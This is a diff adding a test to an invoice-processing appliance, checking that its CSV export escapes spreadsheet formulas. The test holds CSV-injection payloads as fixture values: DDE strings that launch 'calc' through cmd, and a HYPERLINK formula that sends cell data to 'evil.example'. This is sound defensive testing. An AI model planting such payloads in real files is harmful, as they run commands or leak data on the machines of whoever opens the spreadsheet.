@@ -612,6 +612,43 @@ def test_a_batch_of_fields_exports_as_csv_and_json_lines(tmp_path, capsys):
                  "--csv", "-"]) == 2
 
 
+def test_a_csv_export_opens_in_a_spreadsheet_without_running_a_formula(tmp_path, capsys):
+    """What a scan, its file name or a person put in a field reaches the CSV as text: a
+    cell that a spreadsheet would run as a formula starts with ' (OWASP's advice), a
+    negative amount stays a number, and commas, quotes and line breaks are quoted."""
+    import csv
+    import io
+
+    from appliance.cli import main
+    from appliance.store import Database, transitions
+    from appliance.store.models import Document, FieldSet
+
+    config = tmp_path / "config.toml"
+    config.write_text(f'[paths]\ndata_dir = "{tmp_path / "data"}"\n')
+    db = Database(tmp_path / "data" / "appliance.db")
+    buyer = "@SUM(1+1)*cmd|' /C calc'!A0"  # printed on the invoice, read as its buyer
+    rows = [*INVOICE_ROWS[:7], (60, 255, buyer), *INVOICE_ROWS[8:]]
+    reading = read_fields([page(*rows)], DEFAULTS["invoice"], no_history, today=TODAY)
+    typed = {"number": "-2+3+cmd|' /C calc'!A0", "seller": "\t=1+1", "currency": "\r=1+1",
+             "iban": '+1, "quoted"\nnext line', "net": "-1000.00"}
+    fields = [{**f, "value": typed.get(f["name"], f["value"])} for f in reading.fields]
+    doc = transitions.submit_document(db, Document(
+        name='=HYPERLINK("http://evil.example/?"&A1,"scan.png")', sha256="c" * 64, kind="png",
+        size_bytes=1, source="api", doc_type="invoice"), 1)
+    transitions.record_fields(db, FieldSet(document_id=doc.id, doc_type="invoice",
+                                           fields=fields, reasons=[]))
+    db.close()
+
+    assert main(["fields", "export", "--config", str(config), "--type", "invoice",
+                 "--csv", "-"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"scan.png")'
+    assert row["buyer"] == "'" + buyer
+    for name in ("number", "seller", "currency", "iban"):
+        assert row[name] == "'" + typed[name], name
+    assert row["net"] == "-1000.00" and row["gross"] == "1190.00"
+
+
 def test_a_person_corrects_fields_through_the_api_checked_again_and_audited(tmp_path):
     """PUT /api/v1/documents/{id}/fields: with a key, the values are checked again (a
     wrong gross fails its sum), an empty one removes a field, the change is audited
